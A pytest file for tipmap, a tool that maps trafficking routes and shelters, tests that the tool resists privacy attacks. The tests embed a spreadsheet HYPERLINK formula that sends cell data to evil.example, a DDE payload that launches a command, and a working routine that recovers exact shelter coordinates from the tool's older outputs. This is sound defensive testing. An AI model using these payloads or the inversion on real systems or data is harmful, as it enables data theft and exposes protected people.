"""An attacker's tests (issue #12): each attack is replayed with what an attacker has (the
source code, the public outputs, chosen filters) and must reveal nothing.

Attacks A and C (framing and filters) are covered by the audience gate's tests in
test_select.py; F by the reading bounds' tests. Here: B (undoing the generalisation),
D (restricted text and places), E (CSV formulas), G (--force) and H (writers).
"""

from __future__ import annotations

import hashlib
import json
import math

import geopandas as gpd
import numpy as np
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pyproj import Geod
from shapely.geometry import Point
from tipmap.routes.sensitivity import DONUT_M, area_cell, generalise_layer, generalised_point

GEOD = Geod(ellps="WGS84")


def old_generalised_point(record_id: str, lon: float, lat: float) -> tuple[float, float]:
    """The generalisation tipmap shipped before #12, copied from its source (the attacker has it)."""
    lon_step = min(0.1 / max(math.cos(math.radians(lat)), 0.05), 10.0)
    cell_lat = (math.floor(lat / 0.1) + 0.5) * 0.1
    cell_lon = (math.floor(lon / lon_step) + 0.5) * lon_step
    digest = hashlib.sha256(f"tipmap-generalise:{record_id}".encode()).digest()
    jx, jy = digest[0] / 255.0 - 0.5, digest[1] / 255.0 - 0.5
    return (cell_lon + jx * 0.6 * lon_step, cell_lat + jy * 0.6 * 0.1)


def invert_old(published_id: str, x: float, y: float) -> float | None:
    """The published attack: the id gives the jitter, the jitter gives the cell centre, and the
    longitude step 0.1/cos(lat) of the exact latitude is read back from the longitude."""
    digest = hashlib.sha256(f"tipmap-generalise:{published_id}".encode()).digest()
    jx, jy = digest[0] / 255.0 - 0.5, digest[1] / 255.0 - 0.5
    cell_lat = y - jy * 0.6 * 0.1
    band = math.floor(cell_lat / 0.1) * 0.1
    best = None
    for n in range(int(x / 0.4) - 5, int(x / 0.1) + 5):
        step = x / (n + 0.5 + 0.6 * jx)
        if step <= 0 or 0.1 / step > 1:
            continue
        lat = math.degrees(math.acos(0.1 / step))
        if band <= lat < band + 0.1:
            best = lat
    return best


def simulated_sites(n: int = 2000, seed: int = 12) -> gpd.GeoDataFrame:
    """``n`` restricted shelters scattered over mainland South-East Asia."""
    rng = np.random.default_rng(seed)
    lon, lat = rng.uniform(99.0, 107.0, n), rng.uniform(10.0, 21.0, n)
    return gpd.GeoDataFrame(
        {"id": [f"shelter-{i:04d}" for i in range(n)], "kind": "shelter", "sensitivity": "restricted"},
        geometry=[Point(a, b) for a, b in zip(lon, lat)],
        crs="EPSG:4326",
    )


def test_attack_b_the_old_inversion_recovers_the_old_outputs_but_not_the_new():
    sites = simulated_sites()
    # control: on the old outputs the attack works (it would pass on the old code)
    old_hits = sum(
        1
        for rid, g in zip(sites["id"], sites.geometry)
        if (lat := invert_old(rid, *old_generalised_point(rid, g.x, g.y))) is not None and abs(lat - g.y) * 111_000 < 1.0
    )
    assert old_hits / len(sites) > 0.5
    # the new outputs: the published id is opaque and the point depends only on the cell and the key
    published = generalise_layer(sites, "support").frame
    assert not set(published["id"]) & set(sites["id"])
    by_cell = {area_cell(g.x, g.y): g for g in sites.geometry}
    recovered = 0
    for pid, g in zip(published["id"], published.geometry):
        lat = invert_old(pid, g.x, g.y)
        recovered += lat is not None and any(abs(lat - t.y) * 111_000 < 1.0 for t in by_cell.values())
    assert recovered / len(sites) < 0.01
    # and the published points are no closer than 2 km to the sites they stand for
    kept = sites[sites.index.isin(published.index)]
    _, _, dist = GEOD.inv(kept.geometry.x, kept.geometry.y, published.geometry.x, published.geometry.y)
    assert dist.min() >= DONUT_M


def test_attack_b_without_the_key_the_point_tells_nothing_of_the_position_in_the_cell(monkeypatch):
    """Two installations publish the same site at unrelated points; neither point is within
    2 km of the site; the key is in no output."""
    site = (100.5018, 13.7563)
    a = generalised_point("x", *site)
    monkeypatch.setenv("TIPMAP_KEY", "another-installation-key-000000")
    b = generalised_point("x", *site)
    assert a != b
    for p in (a, b):
        assert GEOD.inv(p.x, p.y, *site)[2] > DONUT_M


def test_attack_b_published_ids_and_hash_are_opaque(tmp_path):
    """Ids of restricted records and the data hash cannot be checked against guesses without the key."""
    from tipmap.routes.secret import opaque_id
    from tipmap.routes.sensitivity import published_hash

    assert opaque_id("hotspots", "h-venue") != opaque_id("hotspots", "h-venue", key=b"guessed-key-0000000")
    assert "h-venue" not in opaque_id("hotspots", "h-venue")
    raw = hashlib.sha256(b"atlas").hexdigest()
    assert published_hash(raw, "public").startswith("hmac-sha256:") and raw not in published_hash(raw, "public")
    assert published_hash(raw, "internal") == raw


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lon=st.floats(-179.9, 179.9), lat=st.floats(-84.0, 84.0))
def test_property_no_published_point_within_2_km_of_the_true_one(lon, lat):
    p = generalised_point("any", lon, lat)
    assert GEOD.inv(p.x, p.y, lon, lat)[2] >= DONUT_M


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lon=st.floats(99.0, 107.0), lat=st.floats(10.0, 21.0), t=st.floats(0.0, 1.0))
def test_property_output_does_not_change_when_the_point_moves_inside_its_cell(lon, lat, t):
    import h3

    cell = area_cell(lon, lat)
    clat, clon = h3.cell_to_latlng(cell)
    moved = (lon + t * (clon - lon), lat + t * (clat - lat))  # towards the centre: same cell
    assume(area_cell(*moved) == cell)
    frames = []
    for x, y in ((lon, lat), moved):
        frame = gpd.GeoDataFrame(
            {
                "id": ["s1", "s2"],
                "kind": ["shelter", "ngo"],
                "name": ["Safe house", "NGO"],
                "sensitivity": ["restricted", "public"],
            },
            geometry=[Point(x, y), Point(105.85, 21.03)],
            crs="EPSG:4326",
        )
        frames.append(generalise_layer(frame, "support", min_k=1))
    assert frames[0].frame.to_json() == frames[1].frame.to_json()
    assert (frames[0].generalised, frames[0].widened, frames[0].k_min) == (
        frames[1].generalised,
        frames[1].widened,
        frames[1].k_min,
    )


def _restricted_bangkok(tables):
    """The tiny atlas where the venue is a restricted site in Bangkok, cited by its own source
    whose quote gives the address, and the bride route is restricted."""
    from conftest import HEADERS

    venue = next(r for r in tables["places.csv"] if r[0] == "a-venue")
    venue[3], venue[5], venue[6] = "TH", "100.5018", "13.7563"
    tables["sources.csv"].append(
        ["s-addr", "Raid report", "", "", "", "addr.txt", "The house at 14 Soi Secret Lane holds girls."]
    )
    h = HEADERS["hotspots.csv"]
    row = next(r for r in tables["hotspots.csv"] if r[0] == "h-venue")
    row[h.index("sources")], row[h.index("location_note")] = "s-addr", "Behind the Soi Secret Lane market"
    c = HEADERS["corridors.csv"]
    bride = tables["corridors.csv"][0]
    bride[c.index("sensitivity")], bride[c.index("name")] = "restricted", "Bride route via Border Town"
    return tables


def test_attack_d_restricted_records_keep_no_quote_name_note_transit_or_id(tmp_path, tiny_tables):
    from click.testing import CliRunner
    from conftest import write_atlas
    from tipmap.cli import main

    atlas = write_atlas(tmp_path / "a", _restricted_bangkok(tiny_tables))
    for fmt, name in (("geojson", "o.geojson"), ("csv", "o.csv"), ("kml", "o.kml")):
        out = tmp_path / name
        result = CliRunner().invoke(main, ["export", "-f", fmt, "-o", str(out), "--atlas", str(atlas)])
        assert result.exit_code == 0, result.output
        text = out.read_text(encoding="utf-8")
        for secret in ("Soi Secret Lane", "Exact venue", "h-venue", "c-bride", "Bride route via", "a-venue"):
            assert secret not in text, (fmt, secret)
        assert "100.5018" not in text and "13.7563" not in text
    page = tmp_path / "m.html"
    assert CliRunner().invoke(main, ["render", "-o", str(page), "--atlas", str(atlas)]).exit_code == 0
    listed = [
        CliRunner().invoke(main, ["list", layer, "--format", "json", "--atlas", str(atlas)])
        for layer in ("hotspots", "corridors", "sources", "places")
    ]
    for text in [page.read_text(encoding="utf-8")] + [r.stdout for r in listed]:
        for secret in ("Soi Secret Lane", "Exact venue", "h-venue", "c-bride", "Bride route via", "a-venue", "100.5018"):
            assert secret not in text, secret
    features = json.loads((tmp_path / "o.geojson").read_text())["features"]
    route = next(f for f in features if f["properties"].get("name") == "Restricted route")
    assert "a-mid" not in json.dumps(route)  # no transit place


def test_attack_d_validate_rejects_a_public_route_through_a_confidential_place(tmp_path, tiny_tables):
    from click.testing import CliRunner
    from conftest import write_atlas
    from tipmap.cli import main

    tiny_tables["corridors.csv"][1][2] = "b-shelter a-dst"  # the labour route now starts at the shelter
    atlas = write_atlas(tmp_path / "a", tiny_tables)
    result = CliRunner().invoke(main, ["validate", str(atlas)])
    assert result.exit_code == 1
    assert "corridors.csv, row 3, field 'waypoints': public record uses confidential place 'b-shelter'" in result.output
    assert "inherited from 'o-shelter'" in result.output


# --- E: formulas in CSV ---------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full report")'


def test_attack_e_list_csv_neutralises_formulas(tmp_path, tiny_tables):
    import csv
    import io

    from click.testing import CliRunner
    from conftest import write_atlas
    from tipmap.cli import main

    tiny_tables["corridors.csv"][0][1] = HYPERLINK
    tiny_tables["places.csv"][0][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    atlas = write_atlas(tmp_path / "a", tiny_tables)
    for layer, column, hostile in (("corridors", "name", HYPERLINK), ("places", "name", "@SUM(1+1)*cmd|' /C calc'!A0")):
        result = CliRunner().invoke(main, ["list", layer, "--format", "csv", "--atlas", str(atlas)])
        assert result.exit_code == 0, result.output
        cells = [row[column] for row in csv.DictReader(io.StringIO(result.stdout))]
        assert "'" + hostile in cells and hostile not in cells
        assert not any(c.lstrip()[:1] in "=+@" for c in cells)


def test_attack_e_drafts_csv_neutralises_formulas_and_reads_back(tmp_path):
    """Hostile report text reaches drafts/sources.csv as an inert cell; reading the drafts
    back as an atlas gives the quote verbatim."""
    from tipmap.routes.drafts import table_csv
    from tipmap.routes.textsafety import restore_cell, safe_cell

    text = table_csv("sources.csv", [{"id": "s1", "title": "Report", "quote": HYPERLINK}])
    assert "'" + HYPERLINK.replace('"', '""') in text
    assert "\n=" not in text and ",=" not in text
    assert restore_cell(safe_cell(HYPERLINK)) == HYPERLINK
    assert safe_cell("-12.5") == "-12.5" and safe_cell(" \t=1+1").startswith("'") and safe_cell("\uff1d1+1").startswith("'")


# --- G: --force deletes only tipmap's own files ---------------------------------------


def test_attack_g_force_never_deletes_a_file_tipmap_did_not_write(tmp_path):
    from click.testing import CliRunner
    from tipmap.cli import main

    report = tmp_path / "r.txt"
    report.write_text("Women were trafficked from Lao Cai to Hekou.", encoding="utf-8")
    thesis = tmp_path / "work"
    thesis.mkdir()
    (thesis / "thesis.docx").write_bytes(b"three years of work")
    result = CliRunner().invoke(main, ["extract", str(report), "-o", str(thesis), "--force"])
    assert result.exit_code == 2  # an output problem is a usage error
    assert result.stderr.strip().count("\n") == 0 and "holds files tipmap did not write (thesis.docx)" in result.stderr
    assert (thesis / "thesis.docx").read_bytes() == b"three years of work"
    drafts = tmp_path / "drafts"
    assert CliRunner().invoke(main, ["extract", str(report), "-o", str(drafts)]).exit_code == 0
    (drafts / "notes.txt").write_text("mine", encoding="utf-8")  # the user adds a file to tipmap's directory
    result = CliRunner().invoke(main, ["extract", str(report), "-o", str(drafts), "--force"])
    assert result.exit_code == 2 and "(notes.txt)" in result.stderr and (drafts / "notes.txt").exists()
    (drafts / "notes.txt").unlink()
    assert CliRunner().invoke(main, ["extract", str(report), "-o", str(drafts), "--force"]).exit_code == 0


# --- H: writers safe for their format -------------------------------------------------


@pytest.mark.parametrize(("fmt", "name"), [("kml", "a.kml"), ("gpx", "a.gpx")])
def test_attack_h_control_characters_keep_xml_well_formed(tmp_path, tiny_tables, fmt, name):
    import xml.etree.ElementTree as ET

    from click.testing import CliRunner
    from conftest import write_atlas
    from tipmap.cli import main

    tiny_tables["hotspots.csv"][0][1] = "Border\x1b casino\x00\x0b"
    tiny_tables["places.csv"][1][1] = "Border\x07 Town"
    atlas = write_atlas(tmp_path / "a", tiny_tables)
    out = tmp_path / name
    result = CliRunner().invoke(main, ["export", "-f", fmt, "-o", str(out), "--atlas", str(atlas)])
    assert result.exit_code == 0, result.output
    text = ET.parse(out).getroot()  # raises on a file that is not well-formed
    assert "Border casino" in ET.tostring(text, encoding="unicode")


def test_attack_h_dollars_stay_dollars_and_svg_stays_well_formed(tmp_path):
    import xml.dom.minidom

    from click.testing import CliRunner
    from tipmap.cli import main

    out = tmp_path / "m.svg"
    title = "Fees of $5,000 to $10,000\x1b"
    result = CliRunner().invoke(main, ["plot", "-o", str(out), "--title", title, "--no-labels"])
    assert result.exit_code == 0, result.output
    svg = out.read_text(encoding="utf-8")
    xml.dom.minidom.parseString(svg)
    assert "Fees of $5,000 to $10,000" in svg  # drawn as text, not as TeX maths


def test_attack_h_temporary_files_are_private(tmp_path):
    import os
    import stat

    from tipmap.routes.output import write_atomically

    seen = []

    def write(tmp):
        seen.append(stat.S_IMODE(os.stat(tmp).st_mode))
        tmp.write_text("x", encoding="utf-8")

    write_atomically(tmp_path / "out.txt", write)
    assert seen == [0o600]


@pytest.mark.parametrize("signame", ["SIGTERM", "SIGINT"])
def test_attack_h_a_signal_mid_write_leaves_no_part_file(tmp_path, signame):
    import signal
    import subprocess
    import sys
    import time

    script = (
        "import time, sys\n"
        "from pathlib import Path\n"
        "from tipmap.routes.output import write_atomically\n"
        "def write(tmp):\n"
        "    tmp.write_text('secret half', encoding='utf-8')\n"
        "    Path(sys.argv[2]).write_text('ready')\n"
        "    time.sleep(30)\n"
        "write_atomically(sys.argv[1], write)\n"
    )
    target, ready = tmp_path / "out.kml", tmp_path / "ready"
    proc = subprocess.Popen([sys.executable, "-c", script, str(target), str(ready)], stderr=subprocess.PIPE)
    deadline = time.monotonic() + 30
    while not ready.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert any(p.name.endswith(".part.kml") for p in tmp_path.iterdir())
    proc.send_signal(getattr(signal, signame))
    proc.wait(timeout=30)
    assert proc.returncode != 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ready"]


def test_attack_h_hotspot_parquet_cells_carry_the_manifest(tmp_path):
    import pyarrow.parquet as pq
    from click.testing import CliRunner
    from tipmap.cli import main

    points = tmp_path / "points.csv"
    points.write_text("lat,lon\n" + "".join(f"13.7{i},100.5{i}\n" for i in range(10)), encoding="utf-8")
    out = tmp_path / "cells.parquet"
    result = CliRunner().invoke(main, ["hotspots", str(points), "-o", str(out)])
    assert result.exit_code == 0, result.output
    meta = pq.read_schema(out).metadata
    assert b"geo" in meta  # still GeoParquet
    stamp = json.loads(meta[b"tipmap_manifest"])
    assert stamp["tool"] == "tipmap" and stamp["version"] and stamp["audience"] == "public"
    raw = hashlib.sha256(b"points.csv\0" + points.read_bytes()).hexdigest()
    assert stamp["data_sha256"].startswith("hmac-sha256:") and raw not in json.dumps(stamp)  # no guess can be checked


def test_attack_h_a_confidential_hotspot_map_far_from_the_atlas_is_stamped(tmp_path):
    """Points in Brasília, thousands of km from any atlas record: the map and the cells still
    say CONFIDENTIAL."""
    import sqlite3

    from click.testing import CliRunner
    from tipmap.cli import main

    points = tmp_path / "p.csv"
    points.write_text("lat,lon\n" + "".join(f"-15.7{i % 10},-47.8{i % 7}\n" for i in range(40)), encoding="utf-8")
    flags = ["--data-sensitivity", "confidential", "--audience", "confidential"]
    for name in ("m.html", "c.gpkg"):
        result = CliRunner().invoke(main, ["hotspots", str(points), "-o", str(tmp_path / name), *flags])
        assert result.exit_code == 0, result.output
    assert "CONFIDENTIAL: contains" in (tmp_path / "m.html").read_text(encoding="utf-8")
    with sqlite3.connect(tmp_path / "c.gpkg") as db:
        (meta,) = db.execute("select metadata from gpkg_metadata").fetchone()
    assert '"stamp": "CONFIDENTIAL"' in meta and '"version"' in meta and '"data_sha256"' in meta


def test_attack_b_moving_the_site_inside_its_cell_changes_no_published_feature(tmp_path, tiny_tables):
    """End to end: two atlases whose restricted venue differs by ~1 km inside one H3 cell give
    the same GeoJSON features (only the manifest's keyed data hash differs: the files differ)."""
    from click.testing import CliRunner
    from conftest import write_atlas
    from tipmap.cli import main

    outputs = []
    base = _restricted_bangkok(tiny_tables)
    for lon, lat in ((100.5018, 13.7563), (100.5100, 13.7600)):
        assert area_cell(lon, lat) == area_cell(100.5018, 13.7563)
        tables = {k: [list(r) for r in v] for k, v in base.items()}
        venue = next(r for r in tables["places.csv"] if r[0] == "a-venue")
        venue[5], venue[6] = str(lon), str(lat)
        out = tmp_path / f"{lon}.geojson"
        atlas = write_atlas(tmp_path / f"a{lon}", tables)
        assert CliRunner().invoke(main, ["export", "-f", "geojson", "-o", str(out), "--atlas", str(atlas)]).exit_code == 0
        outputs.append(json.loads(out.read_text(encoding="utf-8"))["features"])
    assert outputs[0] == outputs[1]


def test_attack_a_the_public_map_frame_gives_no_input_coordinate_away(tmp_path):
    """Attack A: `tipmap hotspots points.csv -o map.html` with the defaults (restricted data,
    public audience) once wrote the exact input coordinates into the map's opening bounds.
    Now the frame is the outline of the cells shown: no input coordinate appears anywhere in
    the page, and the lone far point (a cell under the minimum count) is not in the frame."""
    import re

    from click.testing import CliRunner
    from tipmap.cli import main

    site = (101.234567, 12.345678)
    rows = ["lat,lon"] + [f"{site[1] + i * 1e-6:.6f},{site[0] + i * 1e-6:.6f}" for i in range(7)] + ["-33.456789,18.123456"]
    path = tmp_path / "points.csv"
    path.write_text("\n".join(rows) + "\n")
    out = tmp_path / "map.html"
    result = CliRunner().invoke(main, ["hotspots", str(path), "-o", str(out)])
    assert result.exit_code == 0, result.output
    html = out.read_text(encoding="utf-8")
    for value in ("101.2345", "12.3456", "-33.4567", "18.1234"):
        assert value not in html
    assert str(tmp_path) not in html and "points.csv" in html  # the input by name, never its folder
    data = re.search(r'<script type="application/json" id="tipmap-data">(.*?)</script>', html, flags=re.S)
    west, south, east, north = json.loads(data[1])["bounds"]  # the frame the page fits
    assert south > 0  # the far point's cell is withheld (1 point < --min-count), not framed
    assert west <= site[0] <= east and south <= site[1] <= north
    assert (east - west) > 0.1 and (north - south) > 0.1  # a cell outline (~10 km or more), not a point


def test_attack_i_moving_the_bbox_edge_across_a_lone_point_changes_nothing_public(tmp_path):
    """Attack I (found by an independent tester): 60 points near Bangkok and one alone near Mae
    Sot (16.123456 N, 98.654321 E). A public map with --bbox once said 60 points when the box
    stopped just short of the lone point and 61 when it took it in, so narrowing the box found
    it to 4-5 decimals, though its cell (1 point) was withheld. Now a public output keeps whole
    cells by their centres, at a resolution the box decides, and shows only the total of what
    it shows: the two pages carry the same cells, key and manifest (but for the box and time)."""
    import html as html_lib
    import re

    from click.testing import CliRunner
    from tipmap.cli import main

    rng = np.random.default_rng(5)
    rows = ["lat,lon"] + [f"{13.7 + d:.6f},{100.5 + e:.6f}" for d, e in rng.normal(0, 0.05, (60, 2))] + ["16.123456,98.654321"]
    path = tmp_path / "cases.csv"
    path.write_text("\n".join(rows) + "\n")

    def public_page(north: float) -> tuple:
        out = tmp_path / f"map_{north}.html"
        result = CliRunner().invoke(main, ["hotspots", str(path), "-o", str(out), "--bbox", f"98.6,13.4,100.8,{north}"])
        assert result.exit_code == 0, result.output
        page = out.read_text(encoding="utf-8")
        data = re.search(r'id="tipmap-data">(.*?)</script>', page, flags=re.S)[1]
        key = re.search(r'<div id="tipmap-hexlegend".*?</div>', page, flags=re.S)[0]
        stamp = json.loads(html_lib.unescape(re.search(r'name="tipmap-manifest" content="([^"]*)"', page)[1]))
        for varies in ("created", "filters"):
            stamp.pop(varies)
        return data, key, stamp

    short_of_it, taking_it_in = public_page(16.1234), public_page(16.1235)
    assert short_of_it == taking_it_in
    data, key, stamp = short_of_it
    shown = sum(sum(group["cells"]["count"]) for group in json.loads(data)["groups"])
    assert stamp["points"] == shown and f"{shown:,} points" in key  # the total is what is shown, not 61
    assert "withheld" not in key and "61" not in key


def test_attack_i_an_empty_box_and_a_box_of_small_cells_read_the_same(tmp_path):
    """The error once said "every cell holds fewer than 5 points" when the box held a few points
    and "no usable points" when it held none: an oracle for "is anyone here?"."""
    from click.testing import CliRunner
    from tipmap.cli import main

    path = tmp_path / "cases.csv"
    path.write_text("lat,lon\n" + "13.7,100.5\n" * 40 + "16.123456,98.654321\n")
    said = []
    for box in ("98.5,16.0,98.8,16.3", "90.0,0.0,91.0,1.0"):  # the lone point's box; an empty sea
        result = CliRunner().invoke(main, ["hotspots", str(path), "-o", str(tmp_path / "m.html"), "--bbox", box])
        said.append((result.exit_code, result.stderr))
    assert said[0] == said[1] and said[0][0] == 2 and "nothing to show" in said[0][1]


def test_attack_i_render_data_hexagons_keep_whole_cells_too(tmp_path):
    """The same attack on `render --data points.csv --bbox ...`: the hexagon layer a public map
    draws is the same whether the box's edge falls just short of the lone point or takes it in."""
    from tipmap.routes.jobs import atlas_job
    from tipmap.routes.selection import Selection

    rng = np.random.default_rng(6)
    rows = ["lat,lon"] + [f"{13.7 + d:.6f},{100.5 + e:.6f}" for d, e in rng.normal(0, 0.05, (60, 2))] + ["16.123456,98.654321"]
    path = tmp_path / "cases.csv"
    path.write_text("\n".join(rows) + "\n")
    layers = []
    for north in (16.1234, 16.1235):
        result = atlas_job(Selection(bbox=(98.6, 13.4, 100.8, north)), data=(str(path),), allow_empty=True)
        (layer,) = [x for x in result.layers if x.kind == "hexagons"]
        layers.append(layer.data)
    assert layers[0].cells.equals(layers[1].cells) and layers[0].points == layers[1].points
    assert layers[0].points == int(layers[0].cells["count"].sum()) < 61
